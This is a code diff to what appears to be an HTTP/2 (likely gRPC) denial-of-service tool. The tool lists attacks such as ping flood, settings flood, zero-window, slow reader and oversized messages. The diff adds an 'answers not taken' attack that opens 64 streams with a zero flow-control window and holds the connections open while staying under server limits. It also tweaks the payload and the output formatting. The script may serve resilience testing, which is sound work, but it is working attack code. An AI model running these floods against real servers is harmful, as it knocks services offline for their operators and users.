@@ -17,6 +17,7 @@ from line import (ACK, CONTINUATION, DATA, EMPTY_MESSAGE, END_HEADERS, END_STREA
 
 GREETING = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
 BLOCK = header_block()
+LONG = b"\x00\x00\x00\x00\x03\x08\xe8\x07"  # page_size: 1000
 NO_WINDOW = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE
 
 
@@ -143,8 +144,14 @@ def settings_flood(target, until):
 
 def window_zero(target, until):
     """Asks for much and lets nothing come back."""
-    greeting = PREFACE + frame(SETTINGS, 0, 0, NO_WINDOW) + streams(64, request)
+    greeting = PREFACE + frame(SETTINGS, 0, 0, NO_WINDOW) + streams(64, lambda stream: request(stream, message=LONG))
     return 64 * many_held(target, until, 20, greeting, b"")
+
+
+def answers_not_taken(target, until):
+    """So few that no limit is met."""
+    greeting = PREFACE + frame(SETTINGS, 0, 0, NO_WINDOW) + streams(64, lambda stream: request(stream, message=LONG))
+    return 64 * many_held(target, until, 3, greeting, b"")
 
 
 def slow_reader(target, until):
@@ -185,6 +192,7 @@ ATTACKS = {
     "ping flood": (ping_flood, 4, "pings"),
     "settings flood": (settings_flood, 4, "settings"),
     "window of zero": (window_zero, 2, "requests"),
+    "answers not taken": (answers_not_taken, 1, "requests"),
     "slow reader": (slow_reader, 4, "bytes at most"),
     "message too long": (too_long, 4, "messages"),
     "message cut short": (cut_short, 4, "messages"),
@@ -204,7 +212,7 @@ def main():
         thread.start()
     for thread in crew:
         thread.join()
-    print(f"{sum(done):,} {unit}")
+    print(f"{int(sum(done)):,} {unit}")
 
 
 if __name__ == "__main__":
